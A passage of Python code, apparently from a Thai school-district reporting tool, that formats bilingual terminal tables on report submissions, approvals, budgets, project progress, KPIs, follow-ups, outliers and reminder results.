        lines += ["", "รายขั้นตอน (ขั้นที่มีคำขอเสร็จแล้ว) / per step"]
        lines += table([[cut(r.service_th, 24), int(r.step_no), cut(r.step_th, 40), r.standard_th,
                         f"{r.within}/{r.judged}", f"{r.pct_within:.2f}",
                         "-" if pd.isna(r.median_workdays) else f"{r.median_workdays:g}"]
                        for r in steps.itertuples()],
                       ["งานบริการ", "ขั้น", "ขั้นตอน", "มาตรฐาน", "ตามมาตรฐาน", "ร้อยละ", "มัธยฐาน"], right={1, 4, 5, 6})
    ir = summary.inspection_rounds
    if len(ir):
        lines += ["", "ข้อเสนอแนะผู้ตรวจราชการ รายรอบ / inspection recommendations per round"]
        lines += table([[r.inspection_round, cut(r.responsible_group, 36), r.total, r.done, r.done_on_time,
                         r.in_progress, r.not_started, r.overdue, f"{r.pct_done:.2f}"] for r in ir.itertuples()],
                       ["รอบ", "กลุ่มที่รับผิดชอบ", "ทั้งหมด", "ดำเนินการแล้ว", "ตามกำหนด", "ระหว่างดำเนินการ",
                        "ยังไม่เริ่ม", "เกินกำหนด", "ร้อยละ"], right={2, 3, 4, 5, 6, 7, 8})
    return lines


def reminder_lines(r) -> list[str]:
    """What the morning's reminders did: the outbox folder, the LINE pushes the emulator recorded."""
    if r is None:
        return []
    lines = ["", f"แจ้งเตือนเช้าวันถัดไป / reminders: อีเมล {r.emails} ฉบับในโฟลเดอร์ {r.outbox.resolve()} "
                 f"(e-mails in the outbox folder), LINE {len(r.pushes)} ครั้งในโปรแกรมจำลอง LINE (pushes recorded by "
                 f"the LINE emulator), ไม่สำเร็จ {r.failed}"]
    if r.pushes:
        first = r.pushes[0].texts[0]
        lines += ["", "ตัวอย่างข้อความ LINE ที่ส่งเข้ากลุ่ม / the first LINE push:",
                  *("  " + x for x in first.splitlines()[:12])]
        if len(first.splitlines()) > 12:
            lines.append("  …")
    return lines


def approval_lines(summary, limit: int = 8) -> list[str]:
    """Sent reports approved / returned / waiting per report, and the latest decisions, for the terminal."""
    a = summary.approvals_by_report
    if not len(a):
        return []
    lines = ["", "การพิจารณารายงานที่ส่งแล้ว / approvals (approved · returned · waiting)"]
    lines += table([[r.report_th, r.sent, r.approved, r.returned, r.correction_overdue, r.waiting, r.corrected,
                     f"{r.approved_pct:.2f}"] for r in a.itertuples() if r.sent],
                   ["รายงาน", "ส่งแล้ว", "อนุมัติ", "ส่งกลับแก้ไข", "(เกินกำหนดแก้)", "รอพิจารณา", "(แก้แล้ว)",
                    "ร้อยละที่อนุมัติ"], right={1, 2, 3, 4, 5, 6, 7})
    d = summary.decisions
    if len(d):
        lines += ["", f"ประวัติการพิจารณา {len(d)} รายการ (ล่าสุดก่อน) / decisions, newest first"]
        lines += table([[format_thai_date(r.decided_on), cut(r.school_name, 28), cut(r.report_th, 24), r.action_th,
                         cut(r.decision_reason or "", 40), r.decided_by] for r in d.head(limit).itertuples()],
                       ["วันที่", "โรงเรียน", "รายงาน", "การพิจารณา", "เหตุผล", "ผู้พิจารณา"])
    return lines


def summary_lines(summary, *, xlsx: Path | None = None, follow_up_limit: int = 10) -> list[str]:
    """The district summary as Thai text for the terminal."""
    h = summary.headline()
    lines = [f"สรุปภาพรวมเขต ปีงบประมาณ {summary.fiscal_year} ณ วันที่ {format_thai_date(summary.today, 'long')}",
             f"  โรงเรียน {h['schools']} โรง · รายงานที่ต้องส่ง {h['reports_expected']} ฉบับ · ส่งแล้ว {h['submitted']}"
             f" (ตรงเวลา {h['on_time']}, ส่งช้า {h['late']}) · เกินกำหนด {h['overdue']} · ไม่ส่ง {h['missing']}"
             f" · ต้องแก้ไข {h['needs_correction']} · อ่านชีตไม่ได้ {h['unreachable']} โรง", "",
             "ความครบถ้วนและความตรงเวลาของรายงาน / completeness and timeliness"]
    rows = [[r.report_th, format_thai_date(r.due), f"{r.submitted}/{r.expected}", r.on_time, r.late, r.overdue,
             r.missing, r.pending, f"{r.pct_submitted:.2f}"] for r in summary.completeness.itertuples()]
    lines += table(rows, ["รายงาน", "กำหนดส่ง", "ส่ง", "ตรงเวลา", "ช้า", "เกินกำหนด", "ไม่ส่ง", "ยังไม่ถึง",
                          "ร้อยละที่ส่ง"], right={2, 3, 4, 5, 6, 7, 8})
    c = summary.completeness_by_network
    ap = c[c["report_key"] == "action_plan"]
    lines += ["", "แผนปฏิบัติการประจำปี รายเครือข่าย / action plan by network"]
    lines += table([[r.network, f"{r.submitted}/{r.expected}", r.on_time, r.late, f"{r.pct_submitted:.2f}"]
                    for r in ap.itertuples()], ["เครือข่าย", "ส่ง", "ตรงเวลา", "ช้า", "ร้อยละ"], right={1, 2, 3, 4})
    lines += approval_lines(summary)
    lines += ["", "งบประมาณตามหมวดงบรายจ่าย (บาท) / budget by category"]
    lines += table([[r.category, f"{r.amount:,.2f}"] for r in summary.budget_by_category.itertuples()],
                   ["หมวด", "บาท"], right={1})
    lines += ["", "ความก้าวหน้าโครงการรายไตรมาส / project status per quarter"]
    lines += table([[r.quarter, r.projects, r.schools, "-" if r.mean_progress_pct != r.mean_progress_pct
                     or r.mean_progress_pct is None else f"{r.mean_progress_pct:.2f}", f"{r.spent:,.2f}"]
                    for r in summary.projects.itertuples()],
                   ["ไตรมาส", "โครงการ", "โรงเรียน", "ก้าวหน้าเฉลี่ย %", "เบิกจ่าย (บาท)"], right={0, 1, 2, 3, 4})
    kpi = summary.kpi
    if "network" in kpi:  # the district's KPIs: district-wide rows of the rounds that have results
        kpi = kpi[(kpi["network"] == KPI_LEVEL_DISTRICT_TH) & ((kpi["met"] + kpi["not_met"]) > 0)]
    if len(kpi):
        lines += ["", "การบรรลุตัวชี้วัดของเขต (ทั้งเขต เทียบเป้าหมายที่เขตกำหนดให้แต่ละโรงเรียน) / KPI attainment"]
        lines += table([[r.round, r.indicator_code, cut(r.indicator, 40), r.met, r.not_met, r.no_data]
                        for r in kpi.itertuples()],
                       ["รอบ", "รหัส", "ตัวชี้วัด", "บรรลุ", "ไม่บรรลุ", "ยังไม่มีผล"], right={3, 4, 5})
    f = summary.follow_up
    lines += ["", f"รายการติดตาม {len(f)} รายการ (แสดง {min(len(f), follow_up_limit)}) / follow-up list"]
    lines += table([[r.school_name, r.kind_th, r.report_th or r.detail_th, r.contact_email]
                    for r in f.head(follow_up_limit).itertuples()], ["โรงเรียน", "เรื่อง", "รายงาน/รายละเอียด", "ติดต่อ"])
    lines += tracker_lines(summary)
    o = summary.outliers
    if len(o):
        lines += ["", f"ค่าผิดปกติ {len(o)} รายการ / outliers"]
        lines += table([[r.school_name, r.sheet, r.column, f"{r.value:,.2f}", r.note_th]
                        for r in o.head(follow_up_limit).itertuples()],
                       ["โรงเรียน", "ชีต", "คอลัมน์", "ค่า", "หมายเหตุ"], right={3})
    if xlsx is not None:
        lines += ["", f"ไฟล์สรุปพร้อมแผนภูมิ / summary workbook: {xlsx}"]
    return lines
